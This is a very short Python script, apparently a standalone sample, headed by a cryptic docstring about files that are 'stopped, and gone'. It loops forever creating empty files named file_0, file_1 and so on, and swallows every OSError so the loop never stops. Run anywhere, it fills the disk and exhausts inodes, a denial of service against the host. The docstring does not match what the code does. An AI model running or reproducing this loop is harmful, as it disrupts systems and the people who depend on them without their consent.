"""Thousands of small files are stopped, and gone."""
# stopped: files

import itertools

for number in itertools.count():
    try:
        open(f"file_{number}", "w").close()
    except OSError:
        pass
